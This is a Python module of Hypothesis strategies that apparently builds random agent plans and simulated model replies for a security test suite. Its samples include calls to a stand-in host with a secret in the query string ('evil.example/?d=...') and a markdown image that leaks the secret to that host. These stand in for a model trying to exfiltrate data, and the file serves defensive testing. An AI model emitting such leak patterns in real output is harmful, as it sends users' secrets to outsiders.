"""How plans, answers of models and people are made up."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

from hypothesis import strategies as st
from pydantic import JsonValue

from agents.expressions import Expression
from agents.models.messages import ToolCall
from agents.paths import Template
from agents.planner.plan import OpenStep, OpenTool, ReplyStep, Step, ToolStep
from agents.policy.grant import Hole
from agents.receipt import REPLY_TOOL
from tests.security.lab import ADA, BOB, BY_NAME, SEEN, Lab, Leaves, Said

_NO, _YES = Expression("false"), Expression("true")
_NAMES = sorted(BY_NAME.keys() - {REPLY_TOOL})
_DRAWN = [*_NAMES, "files.read", "files.read", "web.get", "vault.read", "ask.requester", "ask.staff", "act.staff"]
"""Some more often than others, so that what they are for is tried often enough."""
_DOCS, _EVIL = "https://docs.example.com/", "https://evil.example/"
_TEXTS = ["fixed", "${task.requester.email}", "${task.words}", BOB, _DOCS, _EVIL]
_LISTED: dict[str, tuple[JsonValue, ...]] = {"n": (1, 2), "url": (_DOCS, _EVIL), "email": (ADA, BOB)}
_ODD: st.SearchStrategy[JsonValue] = st.sampled_from(
    [None, True, 0, -1, 10**30, 1.5, "", [], {}, [SEEN], {"target": SEEN}, "\x00", "ﬀ", "A" * 3000, 1.0, "1"]
)
_WORDS: st.SearchStrategy[JsonValue] = st.sampled_from(
    ["fixed", "a", "fail", SEEN, SEEN, SEEN, SEEN, f"say {SEEN}", BOB, _DOCS, f"{_DOCS}?d={SEEN}", f"{_EVIL}?d={SEEN}"]
)
_ARGUMENTS = ["target", "text", "n", "email", "url", "path", "name", "x", "y", "z", "reason", "tool", "__class__"]
_SHOWN = [name.replace(".", "__") for name in _NAMES]
_OTHER = [*_SHOWN, *_NAMES, "finish", "give_to_person", "conversation__reply", "shell", ""]


def _often(number: int) -> st.SearchStrategy[bool]:
    """True ``number`` times in ten."""
    return st.sampled_from([False] * (10 - number) + [True] * number)


def _templates(earlier: dict[str, list[str]]) -> st.SearchStrategy[Template]:
    places = [f"${{{step}.{name}}}" for step, names in earlier.items() for name in names]
    newest = [place for place in places if place.startswith(f"${{{list(earlier)[-1]}.")]
    told = [place for place in newest if place.endswith((".x}", ".echo}"))]
    drawn = [*_TEXTS, *places, *(f"so: {place}" for place in newest), *told * 4]
    return st.sampled_from(drawn).map(Template.compile)


@st.composite
def _open_tool(draw: st.DrawFn, name: str, earlier: dict[str, list[str]]) -> OpenTool:
    args, holes = {}, {}
    for argument in BY_NAME[name].input_model.model_fields:
        how = draw(st.sampled_from(["listed", "filled", "hole", "hole"]))
        if how == "filled" and argument != "n":
            args[argument] = draw(_templates(earlier))
        else:
            holes[argument] = Hole(one_of=_LISTED.get(argument, ("a", "b")) if how == "listed" else ())
    return OpenTool(tool=name, args=args, holes=holes)


def _chain() -> tuple[Step, ...]:
    """What a model found out goes into a tool that repeats it, and from there to the requester."""
    found = OpenTool(tool="files.read", args={}, holes={"path": Hole()})
    text = {"target": Template.compile("fixed"), "text": Template.compile("${s0.x}")}
    repeated = {"x": Template.compile("${s1.echo}")}
    return (
        OpenStep(id="s0", goal="Look.", agent="", tools=(found,), leaves=Leaves, max_answers=4, approve=_NO),
        ToolStep(id="s1", tool="ask.staff", args=text, approve=None, when=None),
        ReplyStep(id="s2", reply="said", values=repeated, when=None),
    )


@st.composite
def _steps(draw: st.DrawFn) -> tuple[Step, ...]:
    steps: list[Step] = []
    earlier: dict[str, list[str]] = {}
    for number in range(draw(st.integers(1, 4))):
        step = f"s{number}"
        match draw(st.sampled_from(["open", "tool", "tool", "reply", "reply"])) if number else "open":
            case "open":
                names = draw(st.lists(st.sampled_from(_DRAWN), min_size=2, max_size=5, unique=True))
                steps.append(
                    OpenStep(
                        id=step,
                        goal="Look into it.",
                        agent="",
                        tools=tuple(draw(_open_tool(name, earlier)) for name in names),
                        leaves=Leaves,
                        max_answers=draw(st.sampled_from([8, 8, 1])),
                        approve=draw(st.sampled_from([None, _NO, _NO, _YES])),
                    )
                )
                earlier[step] = ["x", "y", "z"]
            case "tool":
                name = draw(st.sampled_from(_NAMES))
                fields = BY_NAME[name].input_model.model_fields
                filled = [one for one, about in fields.items() if about.is_required() or one == "text"]
                args = {one: draw(_templates(earlier)) for one in filled}
                approve = draw(st.sampled_from([None, None, _YES]))
                steps.append(ToolStep(id=step, tool=name, args=args, approve=approve, when=None))
                earlier[step] = [*BY_NAME[name].output_model.model_fields]
            case _:
                steps.append(ReplyStep(id=step, reply="said", values={"x": draw(_templates(earlier))}, when=None))
    return tuple(steps)


@st.composite
def _offered(draw: st.DrawFn, offered: Sequence[OpenTool]) -> ToolCall:
    """A call of a tool that is offered somewhere, mostly with what it takes."""
    one = draw(st.sampled_from(offered))
    arguments: dict[str, JsonValue] = {}
    fields = BY_NAME[one.tool].input_model.model_fields
    for name, hole in one.holes.items():
        if draw(_often(10 if fields[name].is_required() else 5)):
            chosen = st.sampled_from(hole.one_of) if hole.one_of else st.just(1) if name == "n" else _WORDS
            arguments[name] = draw(chosen)
    if draw(_often(1)):
        arguments[draw(st.sampled_from([*one.args, *one.holes, *_ARGUMENTS]))] = draw(_WORDS | _ODD)
    return ToolCall(id=draw(st.sampled_from(["1", "2"])), name=one.tool.replace(".", "__"), arguments=arguments)


@st.composite
def _any(draw: st.DrawFn) -> ToolCall:
    """A call of anything."""
    names = draw(st.lists(st.sampled_from(_ARGUMENTS), max_size=3))
    malformed = draw(st.sampled_from(["", "", "cut short"]))
    arguments = {} if malformed else {argument: draw(_WORDS | _ODD) for argument in names}
    return ToolCall(id="1", name=draw(st.sampled_from(_OTHER)), arguments=arguments, malformed=malformed)


_FINISHES = st.builds(
    ToolCall,
    id=st.just("f"),
    name=st.just("finish"),
    arguments=st.fixed_dictionaries({"x": _WORDS, "y": st.sampled_from(["a", "b", "b", "c"]), "z": st.just(1) | _ODD}),
)


def _another(call: ToolCall, number: int) -> ToolCall:
    """The same call with other words: the same one again and again would end the step."""
    return replace(
        call, arguments={name: f"{number}" if name == "text" else value for name, value in call.arguments.items()}
    )


@st.composite
def _said(draw: st.DrawFn, offered: Sequence[OpenTool]) -> Said:
    seconds = draw(st.sampled_from([0] * 10 + [900, 4000]))
    match draw(st.sampled_from(["calls"] * 4 + ["words", "finish"])):
        case "words":
            words = ["Which?", f"I tell you: {SEEN}", f"![x]({_EVIL}{SEEN})", f"see {_DOCS}{SEEN}", " "]
            return Said(words=draw(st.sampled_from(words)), seconds=seconds)
        case "finish":
            return Said(calls=(draw(_FINISHES),), seconds=seconds)
        case _:
            calls = draw(st.lists(_offered(offered), min_size=1, max_size=3))
            if draw(_often(1)):
                calls.append(draw(_any()))
            if draw(_often(2)):
                calls = [_another(call, number) for number in range(12) for call in calls]
            return Said(calls=tuple(calls), seconds=seconds)


@st.composite
def labs(draw: st.DrawFn) -> Lab:
    """A plan, and a model that tries things on it."""
    steps = _chain() if draw(_often(1)) else draw(_steps())
    offered = [one for step in steps if isinstance(step, OpenStep) for one in step.tools]
    return Lab(
        steps=steps,
        answers=tuple(draw(st.lists(_said(offered), min_size=3, max_size=7))),
        people=tuple(draw(st.lists(st.sampled_from([True] * 5 + [False, None]), min_size=3, max_size=6))),
        seconds_of_tool=draw(st.sampled_from([0, 0, 0, 600])),
    )
